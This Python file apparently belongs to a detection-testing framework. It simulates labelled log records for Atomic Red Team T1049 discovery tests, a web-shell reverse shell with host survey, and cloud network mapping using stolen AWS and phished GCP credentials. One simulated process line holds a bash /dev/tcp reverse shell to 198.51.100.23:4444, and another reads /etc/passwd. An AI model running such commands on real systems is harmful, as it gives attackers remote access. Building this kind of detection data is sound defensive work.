"""Linux, macOS and cloud scenarios: the Unix Atomic Red Team T1049 tests, a reverse-shell survey,
and cloud network mapping with stolen credentials (AWS) and a compromised account (Google Cloud)."""

from __future__ import annotations

from watchpost.simulation.cloud_events import CLI_AGENT, GCLOUD_AGENT, AwsPrincipal
from watchpost.simulation.records import CONTEXT, MILLISECOND, POSITIVE, SECOND, Record
from watchpost.simulation.unix_events import LinuxHost, MacHost, UnixProcess
from watchpost.simulation.world import LabelMaker, World

ATOMIC_4 = (
    "if command -v ss >/dev/null 2>&1; then ss -antp 2>/dev/null || ss -ant; ss -aunp 2>/dev/null "
    "|| true; else lsof -i -nP 2>/dev/null || true; fi"
)


def linux_operator(host: LinuxHost, start: int, label: LabelMaker) -> tuple[UnixProcess, list[Record]]:
    """root's SSH login shell running Invoke-AtomicTest in pwsh (both execs logged: context)."""
    shell = host.login_shell("root", 7, "pts1", "/root")
    pwsh = host.spawn(
        shell, "/opt/microsoft/powershell/7/pwsh", ("pwsh", "-Command", "Invoke-AtomicTest T1049")
    )
    return pwsh, [host.execve(pwsh, start, label("invoke-atomictest", CONTEXT, "pwsh Invoke-AtomicTest"))]


def mac_operator(host: MacHost, start: int, label: LabelMaker) -> tuple[UnixProcess, list[Record]]:
    terminal = host.spawn(None, "/bin/zsh", ("-zsh",), uid=501, cwd="/Users/alice")
    terminal.auid, terminal.session, terminal.tty = 501, 100012, "ttys004"
    pwsh = host.spawn(
        terminal, "/usr/local/microsoft/powershell/7/pwsh", ("pwsh", "-Command", "Invoke-AtomicTest T1049")
    )
    return pwsh, [host.exec_event(pwsh, start, label("invoke-atomictest", CONTEXT, "pwsh Invoke-AtomicTest"))]


def run_linux(
    host: LinuxHost,
    parent: UnixProcess,
    plan: list[tuple[str, tuple[str, ...], str]],
    at: int,
    label: LabelMaker,
    step: int = 15 * MILLISECOND,
) -> list[Record]:
    """Each (image, argv, label kind) exec'd by ``parent``, ``step`` apart."""
    records = []
    for image, argv, kind in plan:
        child = host.spawn(parent, image, argv)
        records.append(host.execve(child, at, label(" ".join(argv), kind, " ".join(argv))))
        at += step
    return records


def run_mac(
    host: MacHost,
    parent: UnixProcess,
    plan: list[tuple[str, tuple[str, ...], str]],
    at: int,
    label: LabelMaker,
    step: int = 15 * MILLISECOND,
) -> list[Record]:
    records = []
    for image, argv, kind in plan:
        child = host.spawn(parent, image, argv)
        records.append(host.exec_event(child, at, label(" ".join(argv), kind, " ".join(argv))))
        at += step
    return records


def atomic_t1049_4_linux(world: World, start: int) -> list[Record]:
    """Atomic T1049 test 4 (bcf05343) on Linux: ss is there, so "ss -antp" and "ss -aunp"."""
    host, label = world.linux, LabelMaker("atomic-t1049-4-linux")
    pwsh, records = linux_operator(host, start, label)
    bash = host.spawn(pwsh, "/usr/bin/bash", ("bash", "-c", ATOMIC_4))
    records.append(host.execve(bash, start + SECOND, label("bash -c", CONTEXT, "the test's bash")))
    records += run_linux(
        host,
        bash,
        [("/usr/bin/ss", ("ss", "-antp"), POSITIVE), ("/usr/bin/ss", ("ss", "-aunp"), POSITIVE)],
        start + SECOND + 9 * MILLISECOND,
        label,
    )
    return records


def atomic_t1049_4_macos(world: World, start: int) -> list[Record]:
    """Atomic T1049 test 4 (bcf05343) on macOS: no ss, so the fallback "lsof -i -nP"."""
    host, label = world.mac, LabelMaker("atomic-t1049-4-macos")
    pwsh, records = mac_operator(host, start, label)
    bash = host.spawn(pwsh, "/bin/bash", ("bash", "-c", ATOMIC_4))
    records.append(host.exec_event(bash, start + SECOND, label("bash -c", CONTEXT, "the test's bash")))
    records += run_mac(
        host,
        bash,
        [("/usr/sbin/lsof", ("lsof", "-i", "-nP"), POSITIVE)],
        start + SECOND + 12 * MILLISECOND,
        label,
    )
    return records


def atomic_t1049_5_linux(world: World, start: int) -> list[Record]:
    """Atomic T1049 test 5 (9ae28d3f) on Linux: sh runs "netstat" and "who -a"."""
    host, label = world.linux, LabelMaker("atomic-t1049-5-linux")
    pwsh, records = linux_operator(host, start, label)
    sh = host.spawn(pwsh, "/usr/bin/dash", ("sh", "-c", "netstat\nwho -a"))
    records.append(host.execve(sh, start + SECOND, label("sh -c", CONTEXT, "the test's sh")))
    records += run_linux(
        host,
        sh,
        [("/usr/bin/netstat", ("netstat",), POSITIVE), ("/usr/bin/who", ("who", "-a"), POSITIVE)],
        start + SECOND + 7 * MILLISECOND,
        label,
        180 * MILLISECOND,
    )
    return records


def atomic_t1049_5_macos(world: World, start: int) -> list[Record]:
    """Atomic T1049 test 5 (9ae28d3f) on macOS: sh runs "netstat" and "who -a"."""
    host, label = world.mac, LabelMaker("atomic-t1049-5-macos")
    pwsh, records = mac_operator(host, start, label)
    sh = host.spawn(pwsh, "/bin/sh", ("sh", "-c", "netstat\nwho -a"))
    records.append(host.exec_event(sh, start + SECOND, label("sh -c", CONTEXT, "the test's sh")))
    records += run_mac(
        host,
        sh,
        [("/usr/sbin/netstat", ("netstat",), POSITIVE), ("/usr/bin/who", ("who", "-a"), POSITIVE)],
        start + SECOND + 9 * MILLISECOND,
        label,
        240 * MILLISECOND,
    )
    return records


def atomic_t1049_6(world: World, start: int) -> list[Record]:
    """Atomic T1049 test 6 (997bb0a6): sockstat -4, -6, -l."""
    host, label = world.linux, LabelMaker("atomic-t1049-6")
    pwsh, records = linux_operator(host, start, label)
    sh = host.spawn(
        pwsh,
        "/usr/bin/dash",
        ("sh", "-c", "sockstat -4\nsockstat -6 2>/dev/null || true\nsockstat -l 2>/dev/null || true"),
    )
    records.append(host.execve(sh, start + SECOND, label("sh -c", CONTEXT, "the test's sh")))
    records += run_linux(
        host,
        sh,
        [("/usr/bin/sockstat", ("sockstat", flag), POSITIVE) for flag in ("-4", "-6", "-l")],
        start + SECOND + 8 * MILLISECOND,
        label,
        60 * MILLISECOND,
    )
    return records


def burst_linux_reverse_shell(world: World, start: int) -> list[Record]:
    """A web shell on web01 opens a reverse shell as www-data and surveys the host: id, uname -a,
    ss -tunap, w, netstat -ant, cat /etc/passwd, over two minutes."""
    host, label = world.linux, LabelMaker("burst-linux-reverse-shell")
    php = host.spawn(None, "/usr/sbin/php-fpm8.1", ("php-fpm: pool www",), "www-data", "/var/www/html")
    sh = host.spawn(
        php, "/usr/bin/dash", ("sh", "-c", "bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'")
    )
    records = [host.execve(sh, start, label("reverse shell", CONTEXT, "sh -c from php-fpm"))]
    bash = host.spawn(sh, "/usr/bin/bash", ("bash", "-i"))
    records.append(host.execve(bash, start + 20 * MILLISECOND, label("reverse shell", CONTEXT, "bash -i")))
    plan = [
        ("/usr/bin/id", ("id",), CONTEXT, 6),
        ("/usr/bin/uname", ("uname", "-a"), CONTEXT, 11),
        ("/usr/bin/ss", ("ss", "-tunap"), POSITIVE, 24),
        ("/usr/bin/w", ("w",), POSITIVE, 47),
        ("/usr/bin/netstat", ("netstat", "-ant"), POSITIVE, 75),
        ("/usr/bin/cat", ("cat", "/etc/passwd"), CONTEXT, 118),
    ]
    for image, argv, kind, offset in plan:
        child = host.spawn(bash, image, argv)
        records.append(
            host.execve(child, start + offset * SECOND, label(" ".join(argv), kind, " ".join(argv)))
        )
    return records


STOLEN_ROLE = AwsPrincipal("AssumedRole", "web-instance-role", session="i-0a1b2c3d4e5f67890")
NETWORK_CALLS = (
    "DescribeVpcs",
    "DescribeSubnets",
    "DescribeRouteTables",
    "DescribeSecurityGroups",
    "DescribeNetworkInterfaces",
    "DescribeVpcPeeringConnections",
    "DescribeTransitGateways",
)


def cloud_aws_network_mapping(world: World, start: int) -> list[Record]:
    """An instance role's credentials, stolen from the metadata service, used from outside with
    the AWS CLI: who am I, then seven network-description calls in two minutes, then instances."""
    label = LabelMaker("cloud-aws-network-mapping")
    log = world.cloud
    address = "203.0.113.24"

    def call(offset: int, source: str, name: str, kind: str) -> Record:
        agent = CLI_AGENT.format(command=f"{source.split('.')[0]}.{name.lower()}")
        return log.cloudtrail(
            STOLEN_ROLE,
            start + offset * SECOND,
            source,
            name,
            address=address,
            agent=agent,
            parameters={"filterSet": {}},
            label=label("network mapping" if kind == POSITIVE else name, kind, name),
        )

    records = [call(0, "sts.amazonaws.com", "GetCallerIdentity", CONTEXT)]
    for index, name in enumerate(NETWORK_CALLS):
        records.append(call(9 + index * 14, "ec2.amazonaws.com", name, POSITIVE))
    records.append(call(130, "ec2.amazonaws.com", "DescribeInstances", CONTEXT))
    return records


GCP_CALLS = (
    ("v1.compute.networks.list", "global/networks", "compute.networks.list"),
    ("v1.compute.subnetworks.aggregatedList", "aggregated/subnetworks", "compute.networks.subnets.list"),
    ("v1.compute.routes.list", "global/routes", "compute.routes.list"),
    ("v1.compute.firewalls.list", "global/firewalls", "compute.firewall-rules.list"),
    ("v1.compute.routers.aggregatedList", "aggregated/routers", "compute.routers.list"),
)


def cloud_gcp_network_mapping(world: World, start: int) -> list[Record]:
    """A phished Google account maps the project's VPC with gcloud: networks, subnets, routes,
    firewall rules, routers (Data Access log), then lists instances."""
    label = LabelMaker("cloud-gcp-network-mapping")
    log = world.cloud
    principal, address = "mallory@contoso.example", "198.51.100.77"
    records = []
    for index, (method, resource, command) in enumerate(GCP_CALLS):
        agent = GCLOUD_AGENT.format(command=command, invocation=f"{index:04x}6f0c6a1ee3b04b0b9c7c")
        records.append(
            log.gcp_audit(
                principal,
                start + index * 11 * SECOND,
                method,
                resource,
                address=address,
                agent=agent,
                label=label("network mapping", POSITIVE, method),
            )
        )
    agent = GCLOUD_AGENT.format(command="compute.instances.list", invocation="9a6f0c6a1ee3b04b0b9c7c")
    records.append(
        log.gcp_audit(
            principal,
            start + 70 * SECOND,
            "v1.compute.instances.aggregatedList",
            "aggregated/instances",
            address=address,
            agent=agent,
            label=label("instances", CONTEXT, "instances list"),
        )
    )
    return records
